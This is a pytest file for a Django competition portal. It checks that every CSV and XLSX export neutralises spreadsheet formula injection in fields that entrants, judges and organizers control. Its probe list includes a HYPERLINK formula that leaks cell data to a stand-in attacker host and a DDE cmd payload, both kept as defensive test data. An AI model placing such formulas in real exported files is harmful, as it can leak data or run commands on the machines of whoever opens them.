"""Formula-injection probes in every export: the entries export (submissions) and the round's scores, ranking and
judge-progress exports (judging), each as CSV and XLSX.

Texts that a spreadsheet would run — starting with =, +, -, @, a tab or a carriage return, =HYPERLINK(...) and
the DDE classic =cmd|' /C calc'!A0 — are written into every exported text field an entrant, a judge or an
organizer controls. The CSV is parsed and the XLSX opened with openpyxl: every such cell must be neutralised (a
leading single quote) and, in the XLSX, be a text cell, never a formula.
"""

import csv
import io
import itertools

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from judging.models import CriterionScore, Decision, Score
from portal.models import Track, Unit
from submissions.exports import FORMULA_TRIGGERS
from submissions.models import CoOwner, Credit, Entry
from tests.factories import PanelMembershipFactory
from tests.judging.test_public_results import results_world

pytestmark = pytest.mark.django_db

PROBES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
EMAIL_PROBES = ["=1+1@example.com", "+sum@example.com", "-1@example.com", "@x@example.com"]


@pytest.fixture
def world(competition, alice):
    world = results_world(competition, alice, per_unit=2, top_k=1, publish=False)
    probes = itertools.cycle(PROBES)
    for entry in Entry.objects.filter(competition=competition):
        Entry.objects.filter(pk=entry.pk).update(
            title=next(probes), title_en=next(probes), country=next(probes), filing_number=next(probes),
            aigc_used=True, aigc_tools=next(probes), aigc_statement=next(probes), eligibility_reason=next(probes),
        )
        Credit.objects.filter(entry=entry).update(name=next(probes))
        entry.owner.display_name = next(probes)
        entry.owner.save(update_fields=["display_name"])
        CoOwner.objects.create(entry=entry, email=EMAIL_PROBES[entry.pk % len(EMAIL_PROBES)])
    for unit in Unit.objects.filter(competition=competition):
        Unit.objects.filter(pk=unit.pk).update(name_zh=next(probes), name_en=next(probes))
    Track.objects.filter(competition=competition).update(name_zh=next(probes), name_en=next(probes))
    judge = world["judge"]
    judge.display_name = "=HYPERLINK(\"http://evil.example\")"
    judge.email = "=2+5@example.com"
    judge.save(update_fields=["display_name", "email"])
    round1 = world["round1"]
    PanelMembershipFactory(round=round1, judge=judge)  # the progress export lists the panel
    for score in Score.objects.filter(round=round1):
        Score.objects.filter(pk=score.pk).update(comment=next(probes))
        CriterionScore.objects.filter(score=score).update(comment=next(probes))
    Decision.objects.filter(round=round1).update(overridden=True, reason=next(probes))
    return world


def organizer(alice):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(alice)
    return client


def exports(world):
    slug, round1 = world["competition"].slug, world["round1"]
    urls = {
        "entries.csv": reverse("submissions:organizer_export_csv", args=[slug]),
        "entries.xlsx": reverse("submissions:organizer_export_xlsx", args=[slug]),
    }
    for what in ("scores", "ranking", "progress"):
        for fmt in ("csv", "xlsx"):
            urls[f"{what}.{fmt}"] = reverse("judging:export", args=[slug, round1.pk, what, fmt])
    return urls


def body(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(data):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return rows, [cell for row in rows[1:] for cell in row]


def xlsx_cells(data):
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    return rows, [cell for row in rows[1:] for cell in row]


def test_the_probes_start_with_every_trigger():
    assert {probe[0] for probe in PROBES + EMAIL_PROBES} == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("name", ["entries.csv", "scores.csv", "ranking.csv", "progress.csv"])
def test_every_csv_export_neutralises_formula_cells(world, alice, name):
    response = organizer(alice).get(exports(world)[name])
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows, cells = csv_cells(body(response))
    assert len(rows) > 1
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not is_number(cell)]
    assert dangerous == [], f"{name}: {dangerous}"
    neutralised = [cell for cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS)]
    assert neutralised, f"{name} carried none of the probes"
    # The probe text itself is kept, after the quote (nothing of what was typed is lost).
    assert all(cell[1:] in PROBES + EMAIL_PROBES or cell[1] in FORMULA_TRIGGERS for cell in neutralised)


@pytest.mark.parametrize("name", ["entries.xlsx", "scores.xlsx", "ranking.xlsx", "progress.xlsx"])
def test_every_xlsx_export_has_no_formula_cell(world, alice, name):
    response = organizer(alice).get(exports(world)[name])
    assert response.status_code == 200
    rows, cells = xlsx_cells(body(response))
    assert len(rows) > 1
    formulas = [(cell.coordinate, cell.value) for row in rows for cell in row if cell.data_type == "f"]
    assert formulas == [], f"{name}: {formulas}"
    dangerous = [
        (cell.coordinate, cell.value) for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert dangerous == [], f"{name}: {dangerous}"
    neutralised = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'")]
    assert neutralised and all(cell.data_type == "s" for cell in neutralised), name


def test_the_entries_export_carries_every_probed_field(world, alice):
    """So that the tests above prove something: each probed column of the entries export holds a probe."""
    rows, _cells = csv_cells(body(organizer(alice).get(exports(world)["entries.csv"])))
    header = rows[0]
    for column in ("Title", "Original or English title", "Unit", "Track", "Entrant name", "Country or region",
                   "Filing number", "AI tools", "AIGC statement", "Decision reason", "Co-owners"):
        values = [row[header.index(column)] for row in rows[1:]]
        assert all(value.startswith("'") for value in values), (column, values)
